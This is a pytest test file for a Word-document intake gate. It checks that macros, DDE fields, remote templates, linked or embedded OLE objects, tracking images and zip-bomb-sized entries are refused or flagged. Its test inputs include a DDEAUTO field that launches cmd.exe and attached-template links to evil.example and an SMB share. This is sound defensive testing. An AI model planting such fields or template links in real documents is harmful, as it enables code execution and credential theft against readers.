"""Bad and hostile .docx files: each is refused or told, nothing is fetched, unpacked or guessed."""

from __future__ import annotations

import io
import tracemalloc
import zipfile
from contextlib import suppress

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from intake.files.gate import Refused
from intake.files.word_gate import ReportLimits, open_docx
from intake.report.reader import read_report
from plan.definition.model import PlanDefinition
from tests.support.hostile_documents import (
    DOCUMENT,
    PLAIN,
    REFUSED,
    RELATIONS,
    huge_entry,
    with_relation,
)
from tests.support.report_writing import fill, repacked


@pytest.mark.parametrize("name", REFUSED)
def test_refused_with_words(definition: PlanDefinition, name: str) -> None:
    make, code = REFUSED[name]
    with pytest.raises(Refused) as refused:
        read_report(make(), "x.docx", definition, "an-lao")
    assert refused.value.finding.code == code
    assert refused.value.finding.severity == "error"
    assert "Hãy" in refused.value.finding.message


TOLD = {
    "attached template": (
        lambda: with_relation("attachedTemplate", "http://evil.example/a.dotm"),
        "report.remote-template",
        "error",
    ),
    "template on a share": (
        lambda: with_relation("attachedTemplate", "file:////10.0.0.1/s/a.dotm"),
        "report.remote-template",
        "error",
    ),
    "template on a share, backslashes": (
        lambda: with_relation("attachedTemplate", r"\\\\10.0.0.1\\s\\a.dotm"),
        "report.remote-template",
        "error",
    ),
    "own template on a Mac": (
        lambda: with_relation("attachedTemplate", "file:///Users/lan/a.dotx"),
        "report.local-template",
        "note",
    ),
    "own template": (
        lambda: with_relation("attachedTemplate", r"file:///C:\Users\lan\a.dotx"),
        "report.local-template",
        "note",
    ),
    "linked object": (
        lambda: with_relation("oleObject", "http://evil.example/a.xls"),
        "report.remote-content",
        "error",
    ),
    "linked frame": (
        lambda: with_relation("frame", "http://evil.example/a.htm"),
        "report.remote-content",
        "error",
    ),
    "tracking picture": (
        lambda: with_relation("image", "https://evil.example/1.png"),
        "report.remote-picture",
        "warning",
    ),
    "embedded object": (
        lambda: with_relation("oleObject", "embeddings/oleObject1.bin", "Internal"),
        "report.ole",
        "error",
    ),
    "control": (
        lambda: with_relation("control", "activeX/activeX1.xml", "Internal"),
        "report.ole",
        "error",
    ),
    "embedded workbook": (
        lambda: with_relation("package", "embeddings/a.xlsx", "Internal"),
        "report.embedded-file",
        "note",
    ),
    "macro": (
        lambda: repacked(PLAIN, added={"word/vbaProject.bin": b"\0"}),
        "report.macro",
        "error",
    ),
    "macro type": (
        lambda: repacked(
            PLAIN,
            {
                "[Content_Types].xml": lambda xml: xml.replace(
                    b"vnd.openxmlformats-officedocument.wordprocessingml.document.main",
                    b"vnd.ms-word.document.macroEnabled.main",
                )
            },
        ),
        "report.macro",
        "error",
    ),
    "DDE field": (
        lambda: repacked(
            PLAIN,
            {
                DOCUMENT: lambda xml: xml.replace(
                    b"<w:body>",
                    b'<w:body><w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe /k calc"/></w:p>',
                )
            },
        ),
        "report.fetching-field",
        "error",
    ),
    "included text": (
        lambda: repacked(
            PLAIN,
            {
                DOCUMENT: lambda xml: xml.replace(
                    b"<w:body>",
                    b"<w:body><w:p><w:r><w:instrText> INCLUDETEXT http://e/ </w:instrText></w:r></w:p>",
                )
            },
        ),
        "report.fetching-field",
        "error",
    ),
}


@pytest.mark.parametrize("name", TOLD)
def test_told_and_read_all_the_same(definition: PlanDefinition, name: str) -> None:
    make, code, severity = TOLD[name]
    reading = read_report(make(), "x.docx", definition, "an-lao")
    assert [(one.code, one.severity) for one in reading.findings] == [(code, severity)]
    assert reading.text_of("p1-i-1") == "Đã triển khai."


def test_a_link_to_a_page_is_harmless(definition: PlanDefinition) -> None:
    reading = read_report(
        with_relation("hyperlink", "https://binhdinh.gov.vn"), "x.docx", definition
    )
    assert reading.findings == ()


def test_main_part_may_bear_another_name(definition: PlanDefinition) -> None:
    """Office on the web writes `document2.xml`."""
    with zipfile.ZipFile(io.BytesIO(PLAIN)) as archive:
        body, relations = archive.read(DOCUMENT), archive.read(RELATIONS)
    data = repacked(
        PLAIN,
        {
            "_rels/.rels": lambda xml: xml.replace(b"word/document.xml", b"word/document2.xml"),
            "[Content_Types].xml": lambda xml: xml.replace(b"document.xml", b"document2.xml"),
        },
        added={"word/document2.xml": body, "word/_rels/document2.xml.rels": relations},
        without=[DOCUMENT, RELATIONS],
    )
    assert read_report(data, "x.docx", definition).text_of("p1-i-1") == "Đã triển khai."


def test_hidden_and_deleted_text_is_not_read(definition: PlanDefinition) -> None:
    def tamper(xml: bytes) -> bytes:
        hidden = b"<w:r><w:rPr><w:vanish/></w:rPr><w:t>AN</w:t></w:r>"
        deleted = b'<w:del w:id="1" w:author="a"><w:r><w:delText>BO</w:delText></w:r></w:del>'
        inserted = b'<w:ins w:id="2" w:author="a"><w:r><w:t>Them.</w:t></w:r></w:ins>'
        place = "Đã triển khai.</w:t></w:r>".encode()
        return xml.replace(place, place + hidden + deleted + inserted)

    reading = read_report(repacked(PLAIN, {DOCUMENT: tamper}), "x.docx", definition)
    assert reading.text_of("p1-i-1") == "Đã triển khai.Them."


def test_memory_is_bounded_by_the_limit_not_by_what_the_archive_says() -> None:
    data = huge_entry(DOCUMENT, 120 * 1024 * 1024)
    tracemalloc.start()
    with pytest.raises(Refused):
        open_docx(data, ReportLimits())
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 80 * 1024 * 1024


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(data=st.data())
def test_mutated_documents_are_read_or_refused(
    definition: PlanDefinition, data: st.DataObject
) -> None:
    """Bytes of the archive changed at random: a reading or a refusal, never another exception."""
    _mutate(definition, data, PLAIN)


@pytest.mark.slow
@settings(
    max_examples=1000, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(data=st.data())
def test_many_mutated_documents(definition: PlanDefinition, data: st.DataObject) -> None:
    _mutate(definition, data, fill(definition, "stp", "thematic-report")[0])


def _mutate(definition: PlanDefinition, data: st.DataObject, source: bytes) -> None:
    part = data.draw(st.sampled_from([DOCUMENT, "word/styles.xml", RELATIONS, "raw"]))
    cuts = data.draw(
        st.lists(st.tuples(st.floats(0, 1), st.binary(max_size=12)), min_size=1, max_size=6)
    )

    def spoil(content: bytes) -> bytes:
        for where, what in cuts:
            at = int(where * len(content))
            content = content[:at] + what + content[at + len(what) // 2 :]
        return content

    spoilt = spoil(source) if part == "raw" else repacked(source, {part: spoil})
    with suppress(Refused):
        reading = read_report(spoilt, "x.docx", definition, "stp")
        assert all(one.text for one in reading.sections)
